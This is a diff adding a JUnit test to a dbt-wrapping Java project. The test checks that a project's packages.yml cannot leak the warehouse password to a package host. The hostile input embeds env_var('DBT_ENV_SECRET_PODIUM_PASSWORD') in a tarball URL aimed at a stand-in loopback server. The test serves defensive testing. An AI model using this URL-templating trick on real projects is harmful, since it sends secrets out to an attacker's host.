@@ -4,6 +4,7 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import com.sun.net.httpserver.HttpServer;
 import dev.podium.run.RecordedStep;
 import dev.podium.transform.call.DbtOptions;
 import dev.podium.vocabulary.Fault;
@@ -11,12 +12,16 @@ import dev.podium.vocabulary.PodiumException;
 import dev.podium.vocabulary.State;
 import java.io.IOException;
 import java.io.UncheckedIOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
+import java.util.Set;
 import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import org.awaitility.Awaitility;
@@ -153,6 +158,31 @@ class DbtBadInputTest {
         Files.writeString(utils.resolve("macros/one.sql"), "{% macro one() %}2{% endmacro %}");
         dbt.run(new RecordedStep(), Dbt.build());
         assertEquals(2, dbt.count("silver.deal_view cross join generate_series(1, one)"), "an edited package counts");
+    }
+
+    @Test
+    void aProjectCannotSendTheWarehousesPasswordToWhereItGetsItsPackagesFrom_invariant_10() throws Exception {
+        List<String> asked = new CopyOnWriteArrayList<>();
+        HttpServer elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+        elsewhere.createContext("/", exchange -> {
+            asked.add(exchange.getRequestURI().getPath());
+            exchange.sendResponseHeaders(404, -1);
+            exchange.close();
+        });
+        elsewhere.start();
+        try {
+            Dbt dbt = new Dbt(folder);
+            Files.writeString(
+                    dbt.project.resolve("packages.yml"),
+                    "packages: [{tarball: 'http://127.0.0.1:"
+                            + elsewhere.getAddress().getPort()
+                            + "/{{ env_var(\"DBT_ENV_SECRET_PODIUM_PASSWORD\", \"nothing\") }}/x.tar.gz', name: x}]");
+            failing(dbt, Dbt.build());
+            assertTrue(!asked.isEmpty(), "dbt asked for the package");
+            assertEquals(Set.of("/nothing/x.tar.gz"), Set.copyOf(asked));
+        } finally {
+            elsewhere.stop(0);
+        }
     }
 
     @Test
